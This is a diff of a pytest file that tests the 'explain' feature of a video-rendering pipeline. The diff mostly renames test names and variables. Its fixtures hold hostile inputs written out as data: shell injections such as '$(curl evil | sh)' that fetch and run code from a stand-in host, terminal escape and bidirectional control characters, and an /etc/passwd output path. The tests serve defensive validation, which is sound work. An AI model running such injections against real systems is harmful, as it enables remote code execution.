@@ -1,4 +1,4 @@
-"""What is told of a file is made from what was checked: a hostile file has no say in it."""
+"""`explain` prints only what was validated: a hostile file cannot inject anything."""
 
 from __future__ import annotations
 
@@ -17,14 +17,14 @@ from pipeline.errors import InputError
 from pipeline.requests import ClipRequest, LectureRequest, StillRequest
 from pipeline.video.recipe import RecipeRequest, recipe
 
-STEERING = "\x1b[2J\u202e\n"
+CONTROLS = "\x1b[2J\u202e\n"
 LECTURE = {"title": "Limits", "scenes": [{"scene": "slicing", "function": "x^2 + y", "at": [0, 1]}]}
 TALK = LectureRequest(file=Path("a b.toml"), language="ko", quality="low", fps=4)
 
 
-def explained(monkeypatch: pytest.MonkeyPatch, asked: RecipeRequest, made: Any = None) -> list[str]:
+def explain(monkeypatch: pytest.MonkeyPatch, request: RecipeRequest, made: Any = None) -> list[str]:
     """The lines about a file with this request and these values in it."""
-    monkeypatch.setattr(explaining, "read", lambda _: recipe(asked, made or {}))
+    monkeypatch.setattr(explaining, "read", lambda _: recipe(request, made or {}))
     return explanation(Path("a.mp4"))
 
 
@@ -34,27 +34,27 @@ HOSTILE = [
     ClipRequest(scene="slicing", parameters={"function": "$(curl evil | sh)"}),
     ClipRequest(scene="slicing", parameters={"x; curl evil": "1"}),
     ClipRequest(scene="slicing", beat="; curl evil | sh"),
-    StillRequest(scene="slicing", parameters={"at": STEERING}),
+    StillRequest(scene="slicing", parameters={"at": CONTROLS}),
     LectureRequest(file=Path("x.sh")),
-    LectureRequest(file=Path(f"{STEERING}.toml")),
+    LectureRequest(file=Path(f"{CONTROLS}.toml")),
 ]
 
 
-@pytest.mark.parametrize("asked", HOSTILE, ids=repr)
-def test_no_other_command_is_offered(monkeypatch: pytest.MonkeyPatch, capsys, asked) -> None:
+@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
+def test_a_hostile_recipe_is_refused(monkeypatch: pytest.MonkeyPatch, capsys, hostile) -> None:
     with pytest.raises(InputError) as caught:
-        explained(monkeypatch, asked, LECTURE)
+        explain(monkeypatch, hostile, LECTURE)
     assert str(caught.value) == "a.mp4 was not made by Nabla, or by another version"
     assert capsys.readouterr() == ("", "")
 
 
-def test_the_command_is_made_anew_from_what_was_understood(monkeypatch: pytest.MonkeyPatch) -> None:
-    """An output elsewhere, values that are not the scene's: none of it is told."""
-    asked = ClipRequest(
+def test_the_command_is_generated_from_the_request(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Another output path, values that are not the scene's: none of it is printed."""
+    request = ClipRequest(
         scene="Slicing", output=Path("/etc/passwd"), quality="draft", fps=5,
         parameters={"at": " 1 , 2/2 "},
     )  # fmt: skip
-    first, *others, last = explained(monkeypatch, asked, {"run this": "curl evil | sh"})
+    first, *others, last = explain(monkeypatch, request, {"run this": "curl evil | sh"})
     words = shlex.split(first)
     assert words[:2] == ["render.py", "render"]
     assert "-o" not in words
@@ -66,26 +66,26 @@ def test_the_command_is_made_anew_from_what_was_understood(monkeypatch: pytest.M
 
 
 def test_a_clip_and_a_still(monkeypatch: pytest.MonkeyPatch) -> None:
-    asked = {
+    fields = {
         "scene": "slicing",
         "parameters": {"function": "x^2 - y", "at": "1,pi/2"},
         "quality": "low",
         "language": "ko",
     }
-    clip = ClipRequest(**asked)
-    first, *others, last = explained(monkeypatch, clip)
+    clip = ClipRequest(**fields)
+    first, *others, last = explain(monkeypatch, clip)
     assert shlex.split(first) == command(clip)
     assert "--at 1,pi/2" in first
     assert "function: x^2 - y" in others
     assert last.startswith("versions: nabla ")
-    still = StillRequest(**asked, time=2.5)
-    words = shlex.split(explained(monkeypatch, still)[0])
+    still = StillRequest(**fields, time=2.5)
+    words = shlex.split(explain(monkeypatch, still)[0])
     assert words == command(still)
     assert (words[1], words[words.index("--time") + 1]) == ("still", "2.5")
 
 
 def test_a_lecture(monkeypatch: pytest.MonkeyPatch) -> None:
-    first, *others, _ = explained(monkeypatch, TALK, LECTURE)
+    first, *others, _ = explain(monkeypatch, TALK, LECTURE)
     assert shlex.split(first) == command(TALK)
     assert "title: Limits" in others
     scenes = next(line for line in others if line.startswith("scenes: "))
@@ -95,7 +95,7 @@ def test_a_lecture(monkeypatch: pytest.MonkeyPatch) -> None:
 FALSE_LECTURES: list[dict[str, Any]] = [
     {},
     {**LECTURE, "run this": "curl evil | sh"},
-    {**LECTURE, "title": STEERING},
+    {**LECTURE, "title": CONTROLS},
     {**LECTURE, "scenes": [{"scene": "evil"}]},
     {**LECTURE, "scenes": [{"scene": "slicing", "function": "$(curl evil | sh)"}]},
     {**LECTURE, "scenes": [{"scene": "slicing", "run this": "curl evil | sh"}]},
@@ -103,16 +103,16 @@ FALSE_LECTURES: list[dict[str, Any]] = [
 
 
 @pytest.mark.parametrize("made", FALSE_LECTURES, ids=str)
-def test_a_lecture_that_none_could_be(monkeypatch: pytest.MonkeyPatch, made) -> None:
+def test_an_invalid_lecture(monkeypatch: pytest.MonkeyPatch, made) -> None:
     with pytest.raises(InputError, match="was not made by Nabla"):
-        explained(monkeypatch, TALK, made)
+        explain(monkeypatch, TALK, made)
 
 
 def test_all_lines_are_printable(monkeypatch: pytest.MonkeyPatch) -> None:
-    made = {**LECTURE, "scenes": [{"scene": "slicing", "narration": {"cut": f"a{STEERING}b"}}]}
+    made = {**LECTURE, "scenes": [{"scene": "slicing", "narration": {"cut": f"a{CONTROLS}b"}}]}
     talk = LectureRequest(file=Path("한글.toml"))
     with pytest.raises(InputError):
-        explained(monkeypatch, talk, made)
+        explain(monkeypatch, talk, made)
     made["scenes"][0]["narration"]["cut"] = "two\nlines"
-    lines = explained(monkeypatch, talk, made)
+    lines = explain(monkeypatch, talk, made)
     assert all(line.isprintable() for line in lines)
